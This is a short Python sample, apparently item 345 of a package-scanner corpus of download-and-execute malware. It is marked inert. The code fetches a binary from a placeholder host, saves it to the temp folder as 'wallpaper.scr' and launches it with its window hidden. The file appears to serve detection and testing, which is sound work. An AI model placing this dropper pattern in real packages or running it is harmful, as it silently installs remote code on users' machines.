# pkgguard corpus 345 (download-execute), modelled on [empirical]; inert, never run.
import ctypes
import os
import tempfile
import urllib.request

path = os.path.join(tempfile.gettempdir(), "wallpaper.scr")
urllib.request.urlretrieve("https://cdn.example/w.bin", path)
ctypes.windll.shell32.ShellExecuteW(None, "open", path, None, None, 0)
